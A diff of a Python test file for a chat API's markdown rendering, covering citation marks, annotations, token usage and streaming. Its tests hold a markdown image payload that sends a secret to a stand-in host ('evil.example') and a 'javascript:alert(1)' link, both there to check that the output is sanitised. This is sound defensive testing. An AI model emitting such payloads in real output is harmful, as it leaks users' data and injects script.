@@ -6,9 +6,10 @@ import pytest
 from fastapi import HTTPException
 from markdown_it import MarkdownIt
 
-from qa.records import Answer, Citation, Hit, Statement
+from qa.events import Event
+from qa.records import Answer, Citation, Hit, ModelUse, Statement
 from qa.web.api.chat import ChatRequest, Completion
-from qa.web.api.markdown import chat_text, escape
+from qa.web.api.markdown import ChatText, escape
 
 HOSTILE = [
     "![tracker](https://evil.example/?q=secret)",
@@ -59,20 +60,32 @@ def test_each_mark_points_at_its_number_and_its_citation():
     answered = answer(
         Statement("Un.", (citation(title="A"), citation(title="B"))), Statement("Deux.", (citation(title="C"),))
     )
-    chat = chat_text(answered)
+    chat = ChatText.of(answered)
     assert [chat.text[mark.start : mark.end] for mark in chat.marks] == ["[1]", "[2]", "[3]"]
-    assert [chat.cited[mark.number - 1].title for mark in chat.marks] == ["A", "B", "C"]
     assert chat.text.startswith("Un. [1][2]\n\nDeux. [3]\n\n**Sources**\n\n- [1] [A](<https://example.org/plan>)")
+    notes = Completion(request()).whole(answered)["choices"][0]["message"]["annotations"]
+    assert [note["url_citation"]["title"] for note in notes] == ["A", "B", "C"]
 
 
-def test_marks_hold_after_the_understood_question():
-    chat = chat_text(answer(Statement("Un.", (citation(),)), question="Et en 2014 ?"))
-    assert chat.text.startswith("*Question comprise : Quel bonus ?*\n\nUn. [1]")
-    assert chat.text[chat.marks[0].start : chat.marks[0].end] == "[1]"
+def test_what_is_to_be_known_stands_after_the_statements():
+    use = ModelUse("openai:gpt", "written", prompt_tokens=100, completion_tokens=20)
+    written = answer(
+        Statement("Un.", (citation(),)),
+        question="Et en 2014 ?",
+        mode="generated",
+        model=use,
+        note="Une phrase a été *omise*.",
+    )
+    text = ChatText.of(written).text
+    notes = "*Question comprise : Quel bonus ?*", "openai:gpt", r"*Une phrase a été \*omise\*.*", "**Sources**"
+    assert text.startswith("Un. [1]\n\n")
+    assert [text.index(note) for note in notes] == sorted(text.index(note) for note in notes)
+    usage = Completion(request()).whole(written)["usage"]
+    assert usage == {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120}
 
 
 def test_a_source_says_what_it_is_and_links_only_to_the_web():
-    line = chat_text(answer(Statement("Un.", (citation(url="javascript:alert(1)"),)))).text.splitlines()[-1]
+    line = ChatText.of(answer(Statement("Un.", (citation(url="javascript:alert(1)"),)))).text.splitlines()[-1]
     assert line == r"- [1] Plan \[2012\] · État · 2012-07 · en français · page 3"
 
 
@@ -80,7 +93,7 @@ def test_without_an_answer_the_reason_and_the_nearest_passages():
     hit = Hit(
         1, 0.2, {}, "a.md#0-5", "a.md", "Plan", "plan", "en", None, None, None, None, None, None, 0, 5, "*Five*\nsix"
     )
-    completion = Completion(request(), answer(nearest=(hit,))).whole()
+    completion = Completion(request()).whole(answer(nearest=(hit,)))
     assert completion["choices"][0]["message"]["content"] == "Rien.\n\n- [1] Plan · en anglais\n  > \\*Five\\* six"
     assert completion["citations"] == completion["choices"][0]["message"]["annotations"] == []
     assert completion["answer"]["abstained"] is True
@@ -89,8 +102,10 @@ def test_without_an_answer_the_reason_and_the_nearest_passages():
 
 def test_a_stream_says_the_same_as_the_whole():
     answered = answer(Statement("Un.", (citation(),)), Statement("Deux.", (citation(url=None),)))
-    whole = Completion(request(), answered).whole()
-    chunks = list(Completion(request(stream=True, stream_options={"include_usage": True}), answered).chunks())
+    whole = Completion(request()).whole(answered)
+    streamed = Completion(request(stream=True, stream_options={"include_usage": True}))
+    statements = [Event("statement", statement=statement) for statement in answered.statements]
+    chunks = list(streamed.chunks([Event("searching"), *statements, Event("done", answer=answered)]))
     deltas = [chunk["choices"][0]["delta"] for chunk in chunks[:-1]]
     assert "".join(delta.get("content", "") for delta in deltas) == whole["choices"][0]["message"]["content"]
     assert deltas[-1]["annotations"] == whole["choices"][0]["message"]["annotations"]
